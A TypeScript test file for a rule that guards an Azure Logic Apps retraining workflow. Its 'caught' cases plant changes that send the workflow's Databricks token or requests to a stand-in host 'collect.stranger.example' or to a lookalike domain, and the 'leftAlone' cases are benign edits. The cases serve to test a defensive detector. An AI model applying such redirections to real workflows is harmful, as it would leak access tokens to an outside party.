import { type Change, edit, type RuleCases, set } from "../../cases/planted";

const WORKFLOW = "azure-native:logic:Workflow";
const NAME = "retraining-workflow";

/** The workflow with another value somewhere in its definition. */
const defined = (path: string, value: unknown): Change =>
  edit(WORKFLOW, NAME, ({ definition }) => {
    const keys = path.split(".");
    const last = keys.pop() ?? "";
    let holder: unknown = definition;
    for (const key of keys) holder = Reflect.get(holder as object, key);
    Reflect.set(holder as object, last, value);
  });

const RUN = "actions.cool_enough.actions.run_job";

export const cases: RuleCases = {
  caught: [
    {
      name: "the token goes to another host",
      changes: [defined(`${RUN}.inputs.uri`, "https://collect.stranger.example/api/2.2/jobs/run-now")],
      says: "collect.stranger.example",
    },
    {
      name: "a host that begins with the workspace's",
      changes: [defined(`${RUN}.inputs.uri`, "@{parameters('workspaceUrl')}.stranger.example/api/2.2/jobs/run-now")],
      says: "stranger.example",
    },
    {
      name: "an address that is decided when it runs",
      changes: [defined("actions.list_runs.inputs", "@triggerBody()")],
      says: "decided when it runs",
    },
    {
      name: "another workspace",
      changes: [
        set(WORKFLOW, NAME, {
          parameters: {
            workspaceUrl: { value: "https://adb-1.1.azuredatabricks.net" },
            coolDownMinutes: { value: 360 },
          },
        }),
      ],
      says: "adb-1.1.azuredatabricks.net",
    },
    {
      name: "a token for Azure itself",
      changes: [defined(`${RUN}.inputs.authentication.audience`, "https://management.azure.com")],
      says: "management.azure.com",
    },
    {
      name: "one more step, which sends a mail",
      changes: [defined("actions.cool_enough.else.actions.mail", { type: "ApiConnection", inputs: {} })],
      says: "ApiConnection",
    },
    {
      name: "a step in a case of a switch",
      changes: [
        defined("actions.which", {
          type: "Switch",
          cases: { one: { actions: { post: { type: "Http", inputs: { uri: "https://collect.stranger.example" } } } } },
        }),
      ],
      says: "collect.stranger.example",
    },
    {
      name: "a trigger that asks another host",
      changes: [defined("triggers.ask", { type: "Http", inputs: { uri: "https://collect.stranger.example" } })],
      says: "collect.stranger.example",
    },
  ],
  leftAlone: [
    {
      name: "another request to the workspace",
      changes: [defined(`${RUN}.inputs.uri`, "@{parameters('workspaceUrl')}/api/2.2/jobs/runs/submit")],
    },
    {
      name: "a step that waits",
      changes: [defined("actions.wait", { type: "Wait", inputs: { interval: { count: 5, unit: "Minute" } } })],
    },
  ],
};
